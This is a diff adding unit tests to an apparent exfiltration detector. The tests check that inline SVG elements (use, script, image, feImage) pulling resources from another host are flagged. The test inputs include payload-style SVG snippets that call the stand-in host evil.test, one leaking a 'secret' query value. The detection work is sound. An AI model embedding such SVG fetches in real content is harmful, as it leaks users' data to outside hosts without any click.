@@ -187,6 +187,27 @@ public class ExfilTests
     public void A_frame_whose_data_page_fetches_from_another_host_is_found(string text) =>
         Assert.Equal("html_fetch", Assert.Single(Exfil.Find(text, Allowed)).Label);
 
+    /// <summary>
+    /// SVG that fetches from another host without a click, in browsers that render inline SVG: <c>&lt;use href&gt;</c>
+    /// (an external sprite, <c>href</c> or <c>xlink:href</c>), <c>&lt;script href&gt;</c>, and the image and filter
+    /// image already read. <c>&lt;use&gt;</c> and SVG's script were not read.
+    /// </summary>
+    [Theory]
+    [InlineData("<svg><use href=\"https://evil.test/s.svg#x\"/></svg>")]
+    [InlineData("<svg><use xlink:href='//evil.test/s.svg?d=secret#x'></use></svg>")]
+    [InlineData("<svg><script href=\"//evil.test/s.js\"></script></svg>")]
+    [InlineData("<svg><script xlink:href=https://evil.test/s.js /></svg>")]
+    [InlineData("<svg><image href=\"https://evil.test/p.png\"/></svg>")]
+    [InlineData("<svg><filter id=f><feImage href=\"https://evil.test/p.png\"/></filter></svg>")]
+    [InlineData("<svg><filter id=f><feImage xlink:href=//evil.test/p.png /></filter></svg>")]
+    public void Svg_that_fetches_from_another_host_is_found(string text) =>
+        Assert.Equal(("html_fetch", 0.95), Assert.Single(Exfil.Find(text, Allowed)) is var m ? (m.Label, m.Score) : default);
+
+    [Theory]
+    [InlineData("<svg><use href=\"#icon\"/><use xlink:href=\"/sprites.svg#a\"/><use href=\"https://example.com/s.svg#b\"/></svg>")]
+    [InlineData("<svg><script href=\"/s.js\"></script></svg>")]
+    public void Svg_to_the_same_document_or_an_allowed_host_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
+
     private const string Long =
         "a long description of the picture, repeated to run past what the image patterns read before its source. "
         + "a long description of the picture, repeated to run past what the image patterns read before its source. "
